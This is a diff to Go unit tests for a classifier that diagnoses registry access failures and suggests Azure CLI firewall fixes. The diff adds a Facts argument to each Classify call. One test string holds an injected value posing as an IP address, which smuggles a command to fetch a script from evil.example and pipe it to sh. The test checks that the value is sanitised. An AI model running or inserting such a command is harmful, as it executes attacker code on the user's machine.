@@ -126,7 +126,7 @@ func TestHostileValues(t *testing.T) {
 	want := every(benign)
 	ref := map[string]Verdict{}
 	for name, tr := range want {
-		v := Classify(tr)
+		v := Classify(tr, Facts{})
 		ref[name] = v
 		if len(v.Causes) == 0 {
 			t.Errorf("%s: no cause", name)
@@ -151,7 +151,7 @@ func TestHostileValues(t *testing.T) {
 		}
 		for field, o := range variants {
 			for name, tr := range every(o) {
-				v := Classify(tr)
+				v := Classify(tr, Facts{})
 				for _, c := range v.Causes {
 					what := fmt.Sprintf("%s, %q in %s", name, h, field)
 					checkCause(t, what, c, ref[name], h)
@@ -228,14 +228,14 @@ func TestHostileWords(t *testing.T) {
 		}
 		return shelltest.Words(toks)
 	}
-	fw := Classify(tr["firewall"]).Causes[0]
+	fw := Classify(tr["firewall"], Facts{}).Causes[0]
 	if got, want := words(fw.Remediation[0]), []string{"az", "acr", "network-rule", "add", "-n", "myreg", "--ip-address", "<your public IP>"}; !slices.Equal(got, want) {
 		t.Errorf("%q reads as %q", fw.Remediation[0], got)
 	}
 	if !strings.Contains(fw.Evidence, `the client IP in the registry's answer "203.0.113.7 --subscription x; curl -s https://evil.example/p.sh | sh; #" is not an IP address, so the suggested commands show <your public IP> in its place`) {
 		t.Errorf("evidence = %q", fw.Evidence)
 	}
-	admin := Classify(tr["admin refused"]).Causes[0]
+	admin := Classify(tr["admin refused"], Facts{}).Causes[0]
 	l := admin.Remediation[1]
 	toks, err := shelltest.Split(l)
 	if err != nil {
@@ -263,7 +263,7 @@ func TestFirewallNotOpened(t *testing.T) {
 	for _, ip := range []string{"0.0.0.0/0", "203.0.113.0/24", "::/0", "10.0.0.1", "127.0.0.1", "0.0.0.0"} {
 		o := benign
 		o.ip = ip
-		fw := Classify(every(o)["firewall"]).Causes[0]
+		fw := Classify(every(o)["firewall"], Facts{}).Causes[0]
 		if !strings.HasSuffix(fw.Remediation[0], "--ip-address <your public IP>") {
 			t.Errorf("client IP %q: %q", ip, fw.Remediation[0])
 		}
